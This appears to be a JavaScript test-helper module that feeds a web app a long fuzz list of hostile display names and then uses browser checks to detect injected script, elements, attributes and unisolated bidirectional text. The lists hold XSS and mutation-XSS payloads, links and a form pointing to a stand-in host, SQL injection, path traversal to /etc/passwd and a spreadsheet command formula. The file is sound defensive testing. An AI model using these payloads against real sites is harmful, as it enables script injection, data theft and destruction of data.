// SPDX-License-Identifier: Apache-2.0
// Names that would rather be programs. Each of them calls pwned() if anything ever reads it as more than text.

const CALL = 'pwned()';

const TAGS = [
    '<script>pwned()</script>', '<ScRiPt>pwned()</sCrIpT>', '<script src=data:,pwned()></script>', '<script/x>pwned()</script>', '"><script>pwned()</script>',
    '\'><script>pwned()</script>', '</title><script>pwned()</script>', '</textarea><script>pwned()</script>', '</style><script>pwned()</script>',
    '</script><script>pwned()</script>', '<<script>pwned()//<</script>', '<script>pwned()', '<scr<script>ipt>pwned()</scr</script>ipt>',
    '<script type=module>pwned()</script>', '<script>\\u0070wned()</script>', '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    '<img src=x onerror=pwned()>', '<img src=x onerror="pwned()">', '<img/src/onerror=pwned()>', '<img src=`x`onerror=pwned()>', '<img """><script>pwned()</script>">',
    '<img src=x:x onerror\n=\npwned()>', '<IMG SRC=x ONERROR=pwned()>', '<image src=x onerror=pwned()>', '<img srcset=x onerror=pwned()>',
    '<svg onload=pwned()>', '<svg/onload=pwned()>', '<svg><script>pwned()</script></svg>', '<svg><script href=data:,pwned() /></svg>',
    '<svg><animate onbegin=pwned() attributeName=x dur=1s>', '<svg><set onbegin=pwned() attributeName=x>', '<svg><a xlink:href=javascript:pwned()><text y=9>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned() xmlns=http://www.w3.org/2000/svg/>#x"/></svg>', '<svg><foreignObject><body onload=pwned()></foreignObject></svg>',
    '<svg><style><img src=x onerror=pwned()></style></svg>', '<svg><desc><![CDATA[</desc><img src=x onerror=pwned()>]]></svg>',
    '<math><mi xlink:href=javascript:pwned()>x</mi></math>', '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=pwned()>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=pwned()></annotation-xml></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>', '<svg></p><style><a id="</style><img src=x onerror=pwned()>">',
    '<table><td><svg><style><!--</td></style><img src=x onerror=pwned()>', '<listing>&lt;img src=x onerror=pwned()&gt;</listing>',
    '<noembed><img title="</noembed><img src=x onerror=pwned()>"></noembed>', '<xmp><p title="</xmp><svg/onload=pwned()>">', '<template><img src=x onerror=pwned()></template>',
    '<div><template shadowrootmode=open><img src=x onerror=pwned()></template></div>', '<select><template><img src=x onerror=pwned()></template></select>',
    '<iframe srcdoc="<script>parent.pwned()</script>">', '<iframe src=javascript:pwned()>', '<iframe onload=pwned()>', '<iframe src=http://evil.test/>',
    '<object data=javascript:pwned()>', '<object data="data:text/html,<script>pwned()</script>">', '<embed src=javascript:pwned()>', '<embed src=//evil.test/x.swf>',
    '<base href=http://evil.test/>', '<base href="javascript:/a/-pwned()///////">', '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
    '<meta http-equiv=refresh content="0;url=http://evil.test/">', '<meta http-equiv=Content-Security-Policy content="default-src *">',
    '<link rel=stylesheet href=http://evil.test/x.css>', '<link rel=import href=data:text/html,pwned()>', '<link rel=prefetch href=http://evil.test/>',
    '<style>@import "http://evil.test/x.css";</style>', '<style>body{background:url(javascript:pwned())}</style>', '<div style="background:url(http://evil.test/x)">',
    '<p style=animation-name:x onanimationstart=pwned()>', '<a href=javascript:pwned()>x</a>', '<a href="java&#115;cript:pwned()">x</a>', '<a href="\x01javascript:pwned()">x</a>',
    '<a href=" javascript:pwned()">x</a>', '<a href="java\tscript:pwned()">x</a>', '<a href=data:text/html,<script>pwned()</script>>x</a>', '<a href=# onclick=pwned()>x</a>',
    '<form action=javascript:pwned()><input type=submit autofocus>', '<form><button formaction=javascript:pwned()>x', '<form action=http://evil.test/><input name=pin>',
    '<input autofocus onfocus=pwned()>', '<input type=image src=x onerror=pwned()>', '<isindex action=javascript:pwned() type=image>', '<keygen autofocus onfocus=pwned()>',
    '<textarea autofocus onfocus=pwned()>', '<select autofocus onfocus=pwned()>', '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=pwned()>',
    '<details open ontoggle=pwned()>', '<dialog open onclose=pwned()><form method=dialog><button>', '<video><source onerror=pwned()></video>', '<video src=x onerror=pwned()>',
    '<audio src=x onerror=pwned()>', '<video poster=javascript:pwned()>', '<track src=x onerror=pwned()>', '<body onload=pwned()>', '<frameset onload=pwned()>',
    '<marquee onstart=pwned()>', '<marquee loop=1 onfinish=pwned()>x</marquee>', '<x onclick=pwned()>x</x>', '<x contenteditable onfocus=pwned() autofocus>',
    '<x onpointerenter=pwned() style=position:fixed;inset:0>', '<bdo dir=rtl><script>pwned()</script></bdo>', '<plaintext>pwned()', '<!--><img src=x onerror=pwned()>-->',
    '<!--<img src="--><img src=x onerror=pwned()//">', '<![CDATA[<img src=x onerror=pwned()>]]>', '<?xml version="1.0"?><script>pwned()</script>', '<!DOCTYPE x [<!ENTITY y "pwned()">]>&y;',
    '&lt;script&gt;pwned()&lt;/script&gt;', '&#60;script&#62;pwned()&#60;/script&#62;', '&#x3c;img src=x onerror=pwned()&#x3e;', '%3Cscript%3Epwned()%3C/script%3E',
    '%253Cscript%253Epwned()%253C/script%253E', '\\x3cscript\\x3epwned()\\x3c/script\\x3e', '\\u003cscript\\u003epwned()', '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
    '\u00bcscript\u00bepwned()\u00bc/script\u00be', '＜script＞pwned()＜/script＞', '‹script›pwned()‹/script›', '<ſcript>pwned()</ſcript>', '<ıframe onload=pwned()>',
    '<img src=x onerror=pwned()\u2028>', '<img\u00a0src=x onerror=pwned()>', '<img\x0bsrc=x\x0conerror=pwned()>', '<\x00script>pwned()</script>', '<img src=x one\x00rror=pwned()>',
];

const URLS = [
    'javascript:pwned()', 'JaVaScRiPt:pwned()', 'javascript://%0apwned()', 'java\nscript:pwned()', 'java\tscript:pwned()', '\x01javascript:pwned()', ' javascript:pwned()',
    'javascript&colon;pwned()', 'javascript&#58;pwned()', 'javascript:/*-/*`/*\\`/*\'/*"/**/(/* */pwned())//', 'vbscript:pwned()', 'data:text/html,<script>pwned()</script>',
    'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+', 'data:image/svg+xml,<svg onload=pwned() xmlns="http://www.w3.org/2000/svg"/>', 'blob:null/pwned()', 'feed:javascript:pwned()',
    'view-source:javascript:pwned()', '//evil.test/', 'http://evil.test/', 'https://evil.test/x.js', '\\\\evil.test\\x', '/\\evil.test', '#"onload="pwned()', '#/tokens/../../evil', '?code=1&code=2',
];

const BREAKS = [
    '"-pwned()-"', '\'-pwned()-\'', '`-pwned()-`', '${pwned()}', '#{pwned()}', '{{pwned()}}', '{{constructor.constructor("pwned()")()}}', '<%= pwned() %>', '[[pwned()]]', '{%pwned()%}',
    '{name}', '{0}', '{count} {text}', '{__proto__}', '{constructor}', '%s%s%n%x', '%(name)s', '$(pwned)', '`pwned`', '; pwned() //', '*/pwned()/*', '\\";pwned();//', '</bdi></p><b onclick=pwned()>',
    '" onmouseover="pwned()', '\' onfocus=\'pwned()\' autofocus=\'', '" autofocus onfocus=pwned() x="', '" style="position:fixed;inset:0" onclick="pwned()', 'x" y=z onload=pwned() "', '=pwned()',
    '=cmd|\' /C calc\'!A0', '+1+pwned()', '@SUM(1)', '-1;DROP TABLE certificates;--', '\' OR \'1\'=\'1', '1) UNION SELECT pwned()', '../../../etc/passwd', '..%2f..%2fetc%2fpasswd', '/dev/null', 'C:\\con\\aux',
    'toString', '__proto__', 'constructor', 'hasOwnProperty', 'prototype', 'null', 'undefined', 'NaN', 'true', '0', '-1', '1e309', '[]', '[object Object]',
];

const UNICODE = [
    '\u202Egnp.nwap', 'a\u202Eb\u202Dc', '\u2067\u202Eevil\u2069', '\u2069\u2069\u202Eout', '\u202B\u202B\u202Bdeep', '\u200Fright', 'مفتاح آنا', 'מפתח', 'Anna \u05D0\u05D1 (1)', '\u061Cx',
    '\u200Bzero\u200Cwidth\u200D', '\uFEFFbom', 'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301', 'Z\u0335\u0321\u0353a\u0334\u035D', '𝓹𝔀𝓷𝓮𝓭()', '👩‍👩‍👧‍👦🏴‍☠️', '𠮷野家', 'Фёдоров', 'ＡＢＣ', 'ﷺﷺﷺ',
    'line\u2028break', 'para\u2029break', 'next\u0085line', 'tab\there', 'nul\u0000here', 'bell\u0007', '\u001B[31mred\u001B[0m', 'del\u007F', '\uFFFE\uFFFF', '\u{10FFFF}', '\u0000', '\u00A0\u00A0', '\u3000', '⁧⁧⁧',
];

const HANDLERS = ['abort', 'auxclick', 'beforecopy', 'beforeinput', 'blur', 'canplay', 'contextmenu', 'cut', 'dragstart', 'durationchange', 'formdata', 'fullscreenchange', 'hashchange', 'invalid',
    'keydown', 'loadstart', 'message', 'mousemove', 'pageshow', 'paste', 'pointerrawupdate', 'resize', 'scroll', 'scrollend', 'search', 'securitypolicyviolation', 'storage', 'transitionrun', 'unload', 'wheel'];

const LONG = [`${'<b>'.repeat(400)}<img src=x onerror=${CALL}>`, 'W'.repeat(4000), '\u202E'.repeat(500), 'مفتاح '.repeat(200).trim(), `${'a'.repeat(2000)}<script>${CALL}</script>`];

export const STRINGS = [...new Set([...TAGS, ...URLS, ...BREAKS, ...UNICODE, ...HANDLERS.map((name) => `<b on${name}=${CALL} tabindex=1>`), ...LONG])];

const bytes = (text) => Buffer.byteLength(text, 'utf8');

/** Those that have room in so many bytes. */
export const shorterThan = (most) => STRINGS.filter((text) => bytes(text) <= most);

/** Nothing that a person could not see: keyfob shows those by their numbers. */
export const isPlain = (text) => !/[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}\p{Noncharacter_Code_Point}\u2066-\u2069]/u.test(text);

/** What a page may be made to run is counted in window.ran; the browser's own dialogs count as well. */
export async function plant(context) {
    await context.addInitScript(() => {
        window.ran = 0;
        for (const name of ['pwned', 'alert', 'confirm', 'prompt', 'print'])
            window[name] = () => void window.ran++;
    });
}

/** What only markup could have made; empty when everything was taken as text. */
export function intruders(page) {
    return page.evaluate(() => {
        const wrong = [];
        if (window.ran)
            wrong.push(`${window.ran} scripts ran`);
        for (const node of document.querySelectorAll('img, image, iframe, frame, object, embed, base, meta[http-equiv], video, audio, math, template, foreignObject, animate, marquee, plaintext, [style*="evil"], script:not([src="app.js"])'))
            wrong.push(`an element: ${node.outerHTML.slice(0, 200)}`);
        for (const node of document.querySelectorAll('*'))
            for (const { name, value } of node.attributes)
                if (/^on/i.test(name) || name === 'srcdoc' || (/^(href|src|action|formaction|xlink:href|data)$/.test(name) && /^[\s\u0000-\u001f]*(javascript|data|vbscript|https?|\/\/|\\\\)/i.test(value))) // eslint-disable-line no-control-regex
                    wrong.push(`${name}=${value} of ${node.localName}`);
        return wrong.slice(0, 10);
    });
}

/**
 * Names on the screen that could turn the words around them: a text with a right-to-left letter or a mark of direction is
 * alone in what isolates it (bdi, or a box of its own), or stands between FSI and PDI.
 */
export function unisolated(page) {
    return page.evaluate(() => {
        const turns = /[\u0590-\u08ff\u200e\u200f\u202a-\u202e\u2066-\u2069\u061c\ufb1d-\ufdff\ufe70-\ufefc]/u;
        const isBox = (node) => {
            const { unicodeBidi, display } = getComputedStyle(node);
            return /isolate|plaintext/.test(unicodeBidi) || !/^(inline|contents)$/.test(display);
        };
        const boxOf = (node) => (isBox(node) ? node : boxOf(node.parentElement));
        const out = [];
        const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
        for (let node = walk.nextNode(); node; node = walk.nextNode()) {
            const parent = node.parentElement;
            if (!turns.test(node.data) || !parent.checkVisibility() || parent.closest('option, textarea, .visually-hidden'))
                continue;
            const alone = boxOf(parent).textContent.trim() === node.data.trim();
            if (!alone && turns.test(node.data.replace(/\u2068[^\u2068]*\u2069/gu, '')))
                out.push(`${JSON.stringify(node.data.slice(0, 80))} in ${parent.outerHTML.slice(0, 160)}`);
        }
        return out.slice(0, 10);
    });
}
